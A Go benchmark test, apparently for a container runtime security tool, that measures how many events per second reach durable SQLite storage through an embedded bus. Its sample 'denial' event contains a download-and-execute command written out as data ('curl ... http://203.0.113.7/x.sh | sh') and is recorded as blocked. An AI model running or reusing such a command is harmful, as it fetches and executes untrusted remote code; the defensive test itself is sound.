package fleet_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"syscall"
	"testing"
	"time"

	"github.com/gabion-dev/gabion/event"
	"github.com/gabion-dev/gabion/fleet"
	"github.com/gabion-dev/gabion/fleet/bus"
	"github.com/gabion-dev/gabion/fleet/store"
	"github.com/gabion-dev/gabion/workload"
)

// figure is one row of bench/results/*.json.
type figure struct {
	Name   string  `json:"name"`
	Value  float64 `json:"value"`
	Unit   string  `json:"unit"`
	Better string  `json:"better"`
	Target float64 `json:"target"`
	OK     bool    `json:"ok"`
}

func cpu() time.Duration {
	var u syscall.Rusage
	_ = syscall.Getrusage(syscall.RUSAGE_SELF, &u)
	return time.Duration(u.Utime.Nano() + u.Stime.Nano())
}

// denial is an event as the node makes them, about 900 bytes of JSON.
func denial(i int, now time.Time) event.Event {
	return event.Event{
		ID: fmt.Sprintf("%016x", i), Kind: event.ProcessExec, First: now, Last: now, Count: 1,
		Severity: event.High, Verdict: event.Deny, Effect: event.Blocked, Mode: "Protect",
		Message:  fmt.Sprintf("Blocked /usr/bin/curl in shop/checkout: not listed (%d).", i),
		Workload: workload.Ref{Namespace: "shop", Name: fmt.Sprintf("checkout-%d", i%50), Kind: "Deployment"},
		Image:    "registry.example/shop/checkout:1.4.2", Container: "checkout",
		ContainerID: fmt.Sprintf("%064x", i%200), Path: "/usr/bin/curl",
		Process: &event.Process{PID: i, PPID: 1, UID: 1000, Exe: "/usr/bin/curl", Args: []string{"curl", "-sSf", "http://203.0.113.7/x.sh"}, ParentExe: "/bin/sh", ParentArgs: []string{"sh", "-c", "curl -sSf http://203.0.113.7/x.sh | sh"}},
		Peer:    &event.Peer{Addr: netip.MustParseAddr("203.0.113.7"), Port: 80, Protocol: "tcp"},
		Reasons: []string{"not-listed"}, Rule: &event.RuleRef{Policy: "WorkloadPolicy/shop/checkout", Field: "spec.process.allow", File: "checkout.yaml", Line: 12},
		Technique: []string{"T1105"}, Mechanism: "raw_tp+kill",
	}
}

// BenchmarkIngest measures from Record to durable in SQLite, by way of the
// embedded bus with a sync per batch, every event a cause of its own. With
// GABION_BENCH_OUT set it writes ingest.json there.
func BenchmarkIngest(b *testing.B) {
	dir := b.TempDir()
	bs, err := bus.Open(b.Context(), bus.Config{Dir: filepath.Join(dir, "bus"), MaxBytes: 8 << 30})
	if err != nil {
		b.Fatal(err)
	}
	defer bs.Close()
	st, err := store.Open(b.Context(), store.Config{Path: filepath.Join(dir, "events.db")})
	if err != nil {
		b.Fatal(err)
	}
	defer st.Close()
	r, err := fleet.New(fleet.Config{Node: "bench"}, fleet.Deps{Bus: bs, Store: st})
	if err != nil {
		b.Fatal(err)
	}
	ctx, cancel := context.WithCancel(b.Context())
	done := make(chan error, 1)
	go func() { done <- r.Run(ctx) }()

	const burst = 50_000
	n := 0
	cpu0 := cpu()
	for b.Loop() {
		for range burst {
			for n%512 == 0 && r.Stats().Queued > 8192 {
				time.Sleep(time.Millisecond)
			}
			r.Record(denial(n, time.Unix(int64(n), 0)))
			n++
		}
		if err := r.Flush(ctx); err != nil {
			b.Fatal(err)
		}
	}
	used := cpu() - cpu0
	rate := float64(n) / b.Elapsed().Seconds()
	perCore := float64(n) / used.Seconds()
	cancel()
	if err := <-done; err != nil {
		b.Fatal(err)
	}
	if s := r.Stats(); s.Dropped != 0 || s.Stored != uint64(n) {
		b.Fatalf("not everything was stored: %+v of %d", s, n)
	}
	b.ReportMetric(rate, "events/s")
	b.ReportMetric(perCore, "events/core-s")
	b.ReportMetric(0, "ns/op")
	if out := os.Getenv("GABION_BENCH_OUT"); out != "" {
		rows := []figure{
			{"events from Record to durable in the store", rate, "events/s", "higher", 20000, rate >= 20000},
			{"the same per second of processor time", perCore, "events/core-s", "higher", 10000, perCore >= 10000},
		}
		data, err := json.MarshalIndent(rows, "", "  ")
		if err != nil {
			b.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(out, "ingest.json"), append(data, '\n'), 0o644); err != nil {
			b.Fatal(err)
		}
	}
}
